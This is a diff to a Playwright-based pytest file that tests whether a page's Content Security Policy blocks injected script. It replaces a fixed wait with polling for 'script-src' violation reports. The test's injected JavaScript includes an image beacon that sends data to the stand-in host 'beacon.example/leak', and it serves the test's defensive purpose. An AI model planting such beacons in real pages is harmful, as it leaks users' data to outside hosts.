@@ -6,6 +6,7 @@ nothing without its token and everything with the printed link."""
 from __future__ import annotations
 
 import os
+import time
 from pathlib import Path
 
 import pytest
@@ -85,7 +86,9 @@ def test_a_script_that_escaping_missed_would_not_run(served, browser):
         document.body.appendChild(s);
         const img = new Image(); img.src = 'http://beacon.example/leak?x=1';
     }""")
-    page.wait_for_timeout(1500)
+    deadline = time.monotonic() + 30  # the policy's reports arrive as console messages, late on a loaded machine
+    while time.monotonic() < deadline and not any("script-src" in v for v in page.violations):
+        page.wait_for_timeout(200)
     assert page.evaluate("() => window.__pwned === undefined")
     assert not [u for u in page.requests if "beacon.example" in u and u in page.requests] or \
         any("img-src" in v or "default-src" in v for v in page.violations)
